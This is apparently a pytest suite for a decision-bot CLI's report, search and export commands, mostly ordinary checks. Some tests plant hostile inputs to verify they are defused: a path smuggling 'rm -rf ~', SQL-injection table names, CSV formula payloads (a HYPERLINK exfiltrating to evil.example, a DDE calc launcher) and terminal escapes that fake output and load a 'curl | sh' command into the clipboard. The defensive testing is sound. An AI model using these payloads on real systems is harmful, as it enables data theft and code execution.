"""The analysts' commands as a user runs them: demo-data, report, transcripts search, export."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import pty
import shlex
import shutil
import sqlite3
import subprocess
import sys
import termios
from pathlib import Path

import click
import pytest
from click.testing import CliRunner

from bot.cli import main
from tests.analytics.history import build
from tests.analytics.test_views_and_summaries import assert_views_match_report
from tests.dates import JAN10

ROOT = Path(__file__).resolve().parents[2]
COMMANDS = [["report"], ["transcripts"], ["transcripts", "search"], ["export"], ["explore"], ["demo-data"]]


def run(db: Path, *args: str, input: str | None = None):
    return CliRunner().invoke(main, ["--db", str(db), "--flows", str(ROOT / "flows"), *args], input=input)


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("demo") / "demo.db"
    result = run(db, "demo-data", "--runs", "30")
    assert result.exit_code == 0, result.output
    assert result.output.startswith(f"Demo history written to {db}: ")
    return db


def _fingerprint(db: Path) -> str:
    h = hashlib.sha256()
    for part in (db, db.with_name(db.name + "-wal")):
        h.update(part.read_bytes() if part.exists() else b"")
    return h.hexdigest()


def test_demo_data_then_report_json_shows_every_measure(demo: Path) -> None:
    result = run(demo, "report", "--format", "json")
    assert result.exit_code == 0, result.output
    rep = json.loads(result.output)
    t = rep["totals"]
    assert t["runs"] >= 30 and t["completed"] > 0 and t["decisions"] > 0 and t["actions"] > 0 and t["reviews"] > 0
    assert t["cancelled"] + t["active"] > 0  # abandoned or cancelled runs
    flows = {r["key"] for r in rep["latency"] if r["dimension"] == "flow"}
    assert {"post_meeting", "metric_breach", "decision_review"} <= flows
    overall = rep["latency"][0]
    assert (
        overall["dimension"] == "all"
        and overall["median_hours_to_decision"] > 0
        and overall["p90_hours_to_decision"] > 0
    )
    assert {r["key"] for r in rep["latency"] if r["dimension"] == "channel"} == {"slack", "teams", "console"}
    assert sum(r["done_on_time"] for r in rep["follow_through_by_flow"]) > 0
    assert sum(r["done_late"] for r in rep["follow_through_by_flow"]) > 0
    everyone = next(r for r in rep["review_adherence"] if r["flow_id"] == "(all)")
    assert everyone["held_on_time"] > 0 and everyone["due"] > 0 and 0 < everyone["adherence"] <= 1
    assert sum(r["reached"] for r in rep["dropoff"]) > 0 and sum(r["dropped_off"] for r in rep["dropoff"]) > 0
    assert sum(r["revisions"] for r in rep["revisions"]) > 0
    assert len(rep["participation"]) >= 8 and all(r["answers"] >= 0 for r in rep["participation"])
    quality = next(r for r in rep["trigger_quality"] if r["source"] == "(all)")
    assert 0 < quality["share_decided"] <= 1 and quality["repeats"] > 0


def test_demo_history_agrees_with_the_views(demo: Path) -> None:
    assert assert_views_match_report(demo) > 200


def test_demo_data_refuses_a_ledger_that_has_runs(demo: Path) -> None:
    result = run(demo, "demo-data", "--runs", "2")
    assert result.exit_code == 1
    assert "already holds" in result.output and "demo-data only fills an empty ledger" in result.output
    fresh = demo.with_name("demo-2.db")  # the advice names a new file, not the one refused
    advice = f"Try a new file: decisionbot --db {fresh} --flows {ROOT / 'flows'} demo-data"
    assert result.output.strip().endswith(advice) and not fresh.exists()


def test_demo_data_advice_is_a_command_to_paste_with_the_flows_it_was_given(tmp_path: Path) -> None:
    folder = tmp_path / "my flows; rm -rf ~"
    shutil.copytree(ROOT / "flows", folder)
    ledger = tmp_path / "it's mine.db"
    argv = ["--db", str(ledger), "--flows", str(folder), "demo-data", "--runs", "1"]
    first = CliRunner().invoke(main, argv)
    assert first.exit_code == 0, first.output
    assert shlex.split(first.output.split("Next: ", 1)[1]) == ["decisionbot", "--db", str(ledger), "report"]
    result = CliRunner().invoke(main, argv)
    assert result.exit_code == 1
    advice = result.output.strip().split("Try a new file: ", 1)[1]
    assert shlex.split(advice) == ["decisionbot", "--db", str(tmp_path / "it's mine-2.db"), "--flows", str(folder),
                                   "demo-data"]  # fmt: skip


def test_report_formats_and_output_file(demo: Path, tmp_path: Path) -> None:
    table = run(demo, "report").output
    assert table.startswith("Decision process report: runs triggered from the start to now")
    utc = "Times are UTC, and so are the days and weeks they fall on (days late, week)"
    assert table.splitlines()[2].startswith(utc)  # an analyst in Berlin reads a late action as UTC
    assert "Drop-off per step" in table and "follow_through" in table
    md = run(demo, "report", "--format", "markdown", "--flow", "post_meeting").output
    assert md.startswith("# Decision process report") and "| dimension | key | runs |" in md
    assert f"\n\n{utc}" in md.split("## ", 1)[0]
    rows = list(csv.DictReader(io.StringIO(run(demo, "report", "--format", "csv").output)))
    assert {r["section"] for r in rows} >= {"totals", "latency", "dropoff", "participation", "trigger_quality"}
    assert next(r for r in rows if r["section"] == "totals" and r["measure"] == "runs")["value"] != "0"
    out = tmp_path / "r.html"
    result = run(demo, "report", "--format", "html", "--output", str(out))
    assert result.exit_code == 0 and f"Report written to {out}" in result.output
    assert out.read_text().startswith("<!DOCTYPE html>") and f"<p>{utc}" in out.read_text()


def test_analysts_commands_do_not_change_the_ledger(demo: Path, tmp_path: Path) -> None:
    before = _fingerprint(demo)
    assert run(demo, "report", "--format", "json").exit_code == 0
    assert run(demo, "transcripts", "search", "launch").exit_code == 0
    assert run(demo, "export", "messages", "--format", "json", "-o", str(tmp_path / "m.json")).exit_code == 0
    assert _fingerprint(demo) == before


@pytest.mark.parametrize("name", ["team#1.db", "q?x.db", "50%25.db"])
def test_analysts_commands_read_the_ledger_named_whatever_its_path_holds(tmp_path: Path, name: str) -> None:
    db = tmp_path / name
    build(db).conn.close()
    out = run(db, "export", "runs", "--format", "json")
    assert out.exit_code == 0, out.output
    assert len(json.loads(out.output)) == 7
    assert run(db, "report", "--format", "json").exit_code == 0
    made = sorted(p.name for p in tmp_path.iterdir() if not p.name.endswith(("-wal", "-shm")))
    assert made == [name]  # no other file opened in its place by a read-only command


def test_csv_cells_people_typed_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    from bot.store import open_db

    db = tmp_path / "h.db"
    build(db).conn.close()
    ledger = open_db(db)
    ledger.execute(
        "INSERT INTO messages (run_id, direction, channel, conversation, actor_id, actor_name, step, kind, text,"
        " created_at) VALUES (1, 'in', 'rasa', 'rasa:x', 'rasa:x', '@SUM(1+1)', 'decision', 'answer', ?, ?)",
        ('=HYPERLINK("https://evil.example/?d="&A1,"Details")', "2026-03-02T10:00:00.000Z"),
    )
    for text in ("-3", "-2+3+cmd|' /C calc'!A0"):  # a number step's answer, stored as text; a formula
        ledger.execute(
            "INSERT INTO messages (run_id, direction, channel, conversation, actor_id, actor_name, step, kind,"
            " text, created_at) VALUES (1, 'in', 'rasa', 'rasa:x', 'rasa:x', 'x', 'decision', 'answer', ?, ?)",
            (text, "2026-03-02T10:01:00.000Z"),
        )
    ledger.conn.close()
    out = run(db, "export", "messages", "--format", "csv")
    assert out.exit_code == 0, out.output
    cells = [c for row in csv.reader(io.StringIO(out.output)) for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@")] == ["-3"]  # a number stays a number
    assert '\'=HYPERLINK("https://evil.example/?d="&A1,"Details")' in cells and "'@SUM(1+1)" in cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells


def test_report_without_a_ledger_says_what_to_do(tmp_path: Path) -> None:
    result = run(tmp_path / "none.db", "report")
    assert result.exit_code == 1
    assert f"No ledger at {tmp_path / 'none.db'}. Try: decisionbot --db" in result.output
    assert not (tmp_path / "none.db").exists()


def test_output_files_go_into_a_folder_made_for_them(demo: Path, tmp_path: Path) -> None:
    report = tmp_path / "new" / "r.html"
    assert run(demo, "report", "--format", "html", "-o", str(report)).exit_code == 0
    assert report.read_text().startswith("<!DOCTYPE html>")
    export = tmp_path / "other" / "deeper" / "runs.csv"
    assert run(demo, "export", "runs", "-o", str(export)).exit_code == 0
    assert export.read_text().startswith("id,")


def test_a_flow_filter_naming_no_flow_is_refused_with_the_known_ones(demo: Path) -> None:
    for command in (["report"], ["transcripts", "search", "launch"]):
        result = run(demo, *command, "--flow", "nope")
        assert result.exit_code == 1, command
        assert "No flow 'nope' in " in result.output and "metric_breach, post_meeting" in result.output
    assert run(demo, "report", "--flow", "post_meeting").exit_code == 0


def test_report_rejects_a_reversed_window(demo: Path) -> None:
    result = run(demo, "report", "--since", "2026-05-01", "--until", "2026-04-01")
    assert result.exit_code == 2 and "--since is after --until" in result.output


def test_report_says_a_day_the_calendar_lacks_is_one(demo: Path) -> None:
    """It said "'2026-02-30' does not match the format '%Y-%m-%d'", which it does."""
    result = run(demo, "report", "--since", "2026-02-30")
    assert result.exit_code == 2 and "'2026-02-30' is no day of the calendar (day is out of range" in result.output
    result = run(demo, "flows", "diagram", "post_meeting", "--counts", "--until", "next week")
    assert result.exit_code == 2 and "'next week' is not a day written YYYY-MM-DD, like 2026-12-24." in result.output


def test_search_finds_a_word_typed_in_a_chat(tmp_path: Path) -> None:
    db = tmp_path / "chat.db"
    lines = [{"text": "We move the quokka launch to March"}, {"text": "Draft the plan"}, {"text": "@bob"},
             {"text": JAN10}, {"text": "done"}, {"as": "bob", "text": "yes"}, {"as": "alice", "text": "ok"}]  # fmt: skip
    chat = run(db, "chat", "post_meeting", "-f", "alice", "-p", "bob", "--jsonl",
               input="".join(json.dumps(x) + "\n" for x in lines))  # fmt: skip
    assert chat.exit_code == 0, chat.output
    found = json.loads(run(db, "transcripts", "search", "quokka", "--json").output)
    # what alice typed, and the summary the bot posted with it
    assert [(r["run_id"], r["direction"], r["who"], r["step"]) for r in found] == [
        (1, "in", "alice", "decision"),
        (1, "out", "everyone", None),
    ]
    assert found[0]["text"] == "We move the quokka launch to March" and "[quokka]" in found[0]["snippet"]
    assert found[1]["text"].startswith("Decision recorded: ")
    stemmed = json.loads(run(db, "transcripts", "search", "launches", "--json").output)
    assert [r["message_id"] for r in stemmed] == [r["message_id"] for r in found]
    table = run(db, "transcripts", "search", "quokka march").output
    assert "quokka" in table and "direction" in table.splitlines()[0]  # a bot message is not its addressee's
    assert run(db, "transcripts", "search", "quokka", "--flow", "metric_breach").output.strip() == "(none)"
    assert json.loads(run(db, "transcripts", "search", "quok*", "--raw", "--json").output)[0]["run_id"] == 1
    bad = run(db, "transcripts", "search", '"unbalanced', "--raw")
    assert bad.exit_code == 1 and "Cannot search for" in bad.output


def test_export_tables_and_views_and_only_those(tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    build(db).conn.close()
    rows = list(csv.DictReader(io.StringIO(run(db, "export", "actions", "--format", "csv").output)))
    assert len(rows) == 10 and rows[0]["owner_id"] == "slack:bob" and rows[6]["due"] == ""
    view = json.loads(run(db, "export", "review_status", "--format", "json").output)
    assert [r["due_at"] for r in view] == ["2026-03-20", "2026-03-24", "2026-03-10", "2026-03-29"]
    out = tmp_path / "runs.json"
    done = run(db, "export", "runs", "--format", "json", "--output", str(out))
    assert done.exit_code == 0 and "Exported 7 row(s) of runs" in done.output
    assert len(json.loads(out.read_text())) == 7
    for name in ("nope", "runs; DROP TABLE runs", 'runs" --', "sqlite_master"):
        refused = run(db, "export", name)
        assert refused.exit_code == 1 and f"No table or view named '{name}'" in refused.output
        assert "Known: " in refused.output and "action_status" in refused.output
    for name in ("messages_fts", "messages_fts_data"):  # documented under Tables: said what it is, not "no table"
        refused = run(db, "export", name)
        assert refused.exit_code == 1 and f"'{name}' belongs to the full-text index of messages.text" in refused.output
        assert "transcripts search WORDS, or export messages." in refused.output
    assert len(json.loads(run(db, "export", "runs", "--format", "json").output)) == 7


@pytest.mark.parametrize("path", COMMANDS, ids=" ".join)
def test_every_command_has_help_ending_with_an_example(path: list[str]) -> None:
    command: click.Command = main
    for name in path:
        assert isinstance(command, click.Group)
        command = command.commands[name]
    with click.Context(command, info_name=path[-1]) as ctx:
        text = command.get_help(ctx).rstrip()
    assert "Example:" in text and text.index("Example:") > text.index("Options:")  # the example closes the help
    assert "decisionbot " in text.split("Example:")[-1]


def test_every_report_format_stays_well_formed_with_line_breaks_commas_and_pipes_in_names(tmp_path: Path) -> None:
    from bot.store import open_db

    db = tmp_path / "h.db"
    build(db).conn.close()
    name = 'Smith, John "JJ" | Jr\nsecond line <b> & co'
    ledger = open_db(db)
    ledger.execute("UPDATE actions SET owner_name = ? WHERE owner_id = 'slack:dan'", (name,))
    ledger.conn.close()
    args = ("report", "--as-of", "2026-03-31")
    table = run(db, *args).output.split("Action follow-through by owner\n")[1].split("\n\n")[0].splitlines()
    assert len(table) == 1 + 1 + 3 and table[-1].startswith("slack:dan ")  # rule, header, bob, carol, dan
    assert 'Smith, John "JJ" | Jr second line <b> & co' in table[-1]
    md = run(db, *args, "--format", "markdown").output.split("## Action follow-through by owner\n\n")[1]
    md_rows = md.split("\n\n")[0].splitlines()
    assert len(md_rows) == 2 + 3 and all(r.startswith("|") and r.endswith("|") for r in md_rows)
    # HTML in a name is shown as written, not rendered (before: <b> bolded the page after it)
    assert 'Smith, John "JJ" \\| Jr second line &lt;b&gt; &amp; co' in md_rows[-1]
    rows = list(csv.reader(io.StringIO(run(db, *args, "--format", "csv").output)))
    assert {len(r) for r in rows} == {4}
    assert ["follow_through_by_owner", "slack:dan", "owner_name", name] in rows  # the name as it is
    rep = json.loads(run(db, *args, "--format", "json").output)
    dan = next(r for r in rep["follow_through_by_owner"] if r["owner_id"] == "slack:dan")
    assert dan["owner_name"] == name and dan["median_days_late"] == 10.0
    bob = next(r for r in rep["follow_through_by_owner"] if r["owner_id"] == "slack:bob")
    assert bob["share_dropped"] > 0 and rep["latency"][0]["p90_hours_to_first_answer"] is not None
    assert next(r for r in rep["review_adherence"] if r["flow_id"] == "metric_breach")["held_on_time"] == 0
    assert '"median_hours_to_first_answer": null' in run(db, *args, "--format", "json").output  # week W13: JSON's null


def test_an_action_without_an_owner_is_reported_as_the_view_has_it_never_as_none(tmp_path: Path) -> None:
    """A flow whose actions name no owner records them with ``owner_id`` NULL: the view keeps NULL
    (first), JSON null, the tables '-'; the CSV's row key and the HTML chart said 'None', as if
    someone were called so, and the report listed it among the N's."""
    from bot.store import open_db

    db = tmp_path / "h.db"
    build(db).conn.close()
    ledger = open_db(db)
    ledger.execute("UPDATE actions SET owner_id = NULL, owner_name = NULL WHERE owner_id = 'slack:dan'")
    ledger.conn.close()
    args = ("report", "--as-of", "2026-03-31")
    rep = json.loads(run(db, *args, "--format", "json").output)
    assert [r["owner_id"] for r in rep["follow_through_by_owner"]] == [None, "slack:bob", "slack:carol"]
    rows = list(csv.reader(io.StringIO(run(db, *args, "--format", "csv").output)))
    owners = [r[1] for r in rows if r[0] == "follow_through_by_owner" and r[2] == "actions"]
    assert owners == ["", "slack:bob", "slack:carol"]
    html = run(db, *args, "--format", "html").output.split('id="chart-follow-through"')[1].split("</figure>")[0]
    assert "None" not in html and ">-</text>" in html


def test_search_without_an_index_names_the_ledger_to_migrate(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "old.db"
    build(db).conn.close()
    conn = sqlite3.connect(db, isolation_level=None)
    conn.execute("DROP TABLE messages_fts")  # a ledger from before the index
    conn.close()
    result = run(db, "transcripts", "search", "launch")
    assert result.exit_code == 1
    assert f"has no full-text index yet. Try: decisionbot --db {db} db migrate" in result.output


ESCAPES = "Disk \x1b[2J\x1b[1;31mALL CLEAR\x1b[0m \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x9b"  # clear, fake, clipboard


def _export_messages(db: Path, stdout: int) -> subprocess.Popen[bytes]:
    command = [sys.executable, "-m", "bot", "--db", str(db), "export", "messages"]
    return subprocess.Popen(command, stdout=stdout, stderr=subprocess.PIPE, cwd=ROOT)


def _read_terminal(db: Path) -> bytes:
    """What ``export messages`` shows on a terminal (a pseudo-terminal: stdout is a tty)."""
    ours, theirs = pty.openpty()
    attrs = termios.tcgetattr(theirs)
    attrs[1] &= ~termios.OPOST  # the bytes as written: no '\n' -> '\r\n'
    termios.tcsetattr(theirs, termios.TCSANOW, attrs)
    child = _export_messages(db, theirs)
    os.close(theirs)
    shown = b""
    while True:
        try:
            chunk = os.read(ours, 65536)
        except OSError:  # EIO: the child closed the terminal
            break
        if not chunk:
            break
        shown += chunk
    os.close(ours)
    assert child.wait(timeout=60) == 0, child.stderr.read() if child.stderr else ""
    return shown


def test_export_on_a_terminal_shows_escapes_and_piped_keeps_every_character(tmp_path: Path) -> None:
    """What a chat user typed went raw to the analyst's terminal (``export messages``: ESC [2J
    cleared it, OSC 52 wrote the clipboard), as ``report`` no longer does; piped, it stays exact."""
    db = tmp_path / "h.db"
    build(db).conn.close()
    conn = sqlite3.connect(db)
    typed = f'{ESCAPES}\r\nline two, "quoted"'
    conn.execute("UPDATE messages SET text = ? WHERE id = 1", (typed,))
    conn.commit()
    conn.close()
    shown = _read_terminal(db)
    assert not any(c in shown for c in (b"\x1b", b"\x07", "\x9b".encode())), shown[:400]
    assert b"Disk \\x1b[2J\\x1b[1;31mALL CLEAR" in shown
    piped = _export_messages(db, subprocess.PIPE)
    out, err = piped.communicate(timeout=60)
    assert piped.returncode == 0, err
    rows = list(csv.DictReader(io.StringIO(out.decode(), newline="")))
    assert [r["text"] for r in rows if r["id"] == "1"] == [typed]
